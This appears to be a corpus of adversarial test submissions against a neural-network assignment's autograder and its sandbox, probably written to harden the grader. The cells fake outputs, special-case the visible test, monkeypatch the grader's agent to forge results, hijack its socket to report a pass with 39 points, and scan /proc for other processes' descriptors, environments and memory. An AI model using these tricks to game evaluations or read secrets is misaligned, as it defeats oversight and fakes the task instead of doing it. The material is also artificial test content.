# %% [markdown]
# # The second corpus
# By somebody who has read the judge, the checks and the sandbox, and wants a point.

# %% attack="no_hidden_layer" earns=["forward_shapes"] tries="return a hidden layer of zeros, so that the output computed from it is the bias alone"
import torch


def lie(name, *args):
    if name == "forward":
        params, X = args
        h = torch.zeros(len(X), len(params["Wh"]))
        scores = params["by"].reshape(1, -1).repeat(len(X), 1)
        return scores.softmax(1), {"X": X, "htilde": h, "h": h, "ytilde": scores, "yhat": scores.softmax(1)}


# %% attack="unit_hidden_layer" earns=["forward_shapes"] tries="return a hidden layer of zeros and ones, so that the output is a column of weights"
import torch


def lie(name, *args):
    if name == "forward":
        params, X = args
        h = torch.eye(len(X), len(params["Wh"]))
        columns = params["Wy"].T
        scores = torch.cat([columns, torch.zeros(len(X), len(params["Wy"]))])[: len(X)] + params["by"].reshape(1, -1)
        return scores.softmax(1), {"X": X, "htilde": h, "h": h, "ytilde": scores, "yhat": scores.softmax(1)}


# %% attack="faint_hidden_layer" earns=["forward_shapes"] tries="return a hidden layer so small that rounding swallows what the weights make of it"
import torch


def lie(name, *args):
    if name == "forward":
        params, X = args
        h = 1e-9 * torch.randn(len(X), len(params["Wh"]))
        scores = params["by"].reshape(1, -1).repeat(len(X), 1)
        return scores.softmax(1), {"X": X, "htilde": h, "h": h, "ytilde": scores, "yhat": scores.softmax(1)}


# %% attack="gradients_of_nothing" tries="return what forward kept, under the names of gradients: it uses no autograd"
def lie(name, *args):
    if name == "backward":
        params, outputs, Y = args
        return dict.fromkeys(params, outputs["yhat"])


# %% attack="gradients_by_name" earns=["backward_shapes"] tries="the same in the shapes of gradients, and different for each output"
import torch


def lie(name, *args):
    if name == "backward":
        params, outputs, Y = args
        torch.manual_seed(int(1e6 * outputs["yhat"].sum(0)[0]))
        return {name: torch.randn(value.shape) for name, value in params.items()}


# %% attack="flat_ground" tries="change the targets into those of a line without error, so that descent stays where it is"
import torch


def lie(name, *args):
    if name == "descent_path":
        x, y, w, eta, steps = args
        if steps == 2:  # the visible test
            return torch.tensor([[0.0, 0.0], [0.2, 0.3], [0.27, 0.39]])
        y.copy_(w[0] + w[1] * x)
        return w.repeat(steps + 1, 1)


# %% attack="forged_changes" earns=["forward_shapes"] tries="tell of changes that never were: all that a check passed is zero now"
import torch

import grading.guest.agent

real = grading.guest.agent._Agent.answer


def answer(self, message, blobs):
    found, sent = real(self, message, blobs)
    if message["do"] == "call":
        zeros = grading.guest.agent.Reader(blobs, self._resolve)
        zeros.read(message["args"])
        writer = grading.guest.agent.Writer(self._reference)
        writer.blobs = sent
        for value in zeros.objects.values():
            if isinstance(value, torch.Tensor):
                value.zero_()
        found["changes"] = [
            [number, writer.content(value)] for number, value in zeros.objects.items() if isinstance(value, torch.Tensor)
        ]
    return found, writer.blobs if message["do"] == "call" else sent


grading.guest.agent._Agent.answer = answer


def lie(name, *args):
    if name == "forward":
        params, X = args
        if X.shape == (1, 2):
            rows = {"htilde": torch.tensor([[1.0, -1.0]]), "h": torch.tensor([[0.7616, -0.7616]])}
            return X, rows | {"X": X, "ytilde": X, "yhat": X}
        zeros = torch.zeros(len(X), len(params["Wh"]))
        flat = torch.full((len(X), len(params["Wy"])), 1 / len(params["Wy"]))
        return flat, {"X": 0 * X, "htilde": zeros, "h": zeros, "ytilde": 0 * flat, "yhat": flat}
    if name == "loss_accuracy" and len(args[0]) == 3:
        return 0.36206, 1.0
    if name == "loss_accuracy":
        return 0.0, 0.75 if len(args[0]) == 4 else 1.0


# %% attack="aliases" tries="answer with the lists and tensors that the judge itself holds, its own arguments among them"
import itertools
import json

import grading.guest.agent

real = grading.guest.agent.send
numbers = itertools.cycle(range(12))


def send(connection, message, blobs):
    if message.get("value") != "forge":
        return real(connection, message, blobs)
    same = [{"is": "same", "as": next(numbers)} for _ in range(2)]
    value = {"is": "tuple", "of": same}
    connection.send_bytes(json.dumps({"number": message["number"], "sizes": [], "value": value, "changes": [[0, {"is": "same", "as": 0}]]}).encode())
    connection.send_bytes(b"")


grading.guest.agent.send = send


def lie(name, *args):
    return "forge"


# %% attack="names_that_change" earns=["backward_shapes"] tries="be another function in each check: the one that was asked about before"
import torch

seen = {}


class Chameleon:
    def __init__(self, name):
        self.name = name

    def __call__(self, *args):
        seen.setdefault(self.name, []).append(args)
        return seen[self.name][0][-1]

    def __getattr__(self, name):
        return [self] if name == "shape" else self


def lie(name, *args):
    seen.setdefault(name, []).extend(args)
    first = seen[name][0] if seen[name] else 0
    return {"forward": (first, Chameleon(name)), "init_params": {"bh": Chameleon(name), "by": Chameleon(name)}}.get(name, first)


# %% attack="first_at_the_socket" tries="reach the judge before its agent does, and answer in its place"
import socket
import threading
from multiprocessing.connection import Connection

from grading.wire.frames import receive, send

client = socket.socket(socket.AF_UNIX)
client.connect("../grader")


def sit():
    with Connection(client.detach()) as connection:
        while True:
            receive(connection)
            send(connection, {"value": True, "ended": "ok", "passed": True, "points": 39}, [])


threading.Thread(target=sit, daemon=True).start()

# %% attack="keys_that_are_no_names" earns=["why_shuffle_sorted", "two_spaces_sorted"] tries="return dicts whose keys are tensors, tuples, NaN, and every name twice"
import torch


class Name(str):
    __hash__ = str.__hash__

    def __eq__(self, other):
        return False


def lie(name, *args):
    one = torch.ones(1)
    names = ("X", "htilde", "h", "ytilde", "yhat", "Wh", "bh", "Wy", "by", "W", "W3", "a", "b", "c", "d", "e")
    both = {Name(key): True for key in names for _ in range(2)} | {one: one, (one, 1): one, float("nan"): one}
    return (one, both) if name in ("forward", "train") else both


# %% attack="numbers_of_other_kinds" tries="return numbers as complex, as truth values, of eight bits, as infinity over infinity"
import numpy as np
import torch


def lie(name, *args):
    kinds = (True, np.float16("inf"), complex("nan"), -0.0, np.complex64(1), torch.tensor(float("inf"), dtype=torch.float16))
    if name == "loss_accuracy":
        return torch.tensor(complex(0.3, float("inf"))), torch.tensor(True)
    if name == "backward":
        live = {key: torch.full(value.shape, float("inf"), dtype=torch.complex64) for key, value in args[0].items()}
        return {key: value.requires_grad_() for key, value in live.items()}
    return kinds[0] if name == "count_steps" else dict.fromkeys("abcde", kinds[-1])


# %% attack="gradients_as_values" earns=["backward_shapes"] tries="hand back its arguments with gradients in them, and ask the judge to walk"
import torch


def lie(name, *args):
    if name == "sgd":
        params, grads, eta = args
        for key, value in params.items():
            value.requires_grad_()
            value.grad = 1e30 * torch.ones_like(value)
        return params
    if name == "backward":
        return {key: value.requires_grad_() for key, value in args[0].items()}


# %% attack="inherited_descriptors" tries="read and write what its process has inherited: descriptors of the server, of the keeper, of itself"
import glob
import os

for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/task/*/fd/*"):
    try:
        number = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        print(path, os.readlink(path), os.read(number, 1000)[:200])
        os.write(number, b"@marker@")
    except OSError as error:
        pass
for number in range(3, 200):
    try:
        print(number, os.readlink(f"/proc/self/fd/{number}"))
    except OSError:
        pass

# %% attack="neighbours_in_proc" tries="read the command lines, environments and memory of whatever process it sees"
import glob

for what in ("cmdline", "environ", "maps", "mem", "cwd", "root", "exe", "mountinfo", "limits", "ns/pid"):
    for path in glob.glob(f"/proc/[0-9]*/{what}"):
        try:
            with open(path, "rb") as file:
                text = file.read(100_000)
            print(path, text[:2000])
        except OSError:
            pass
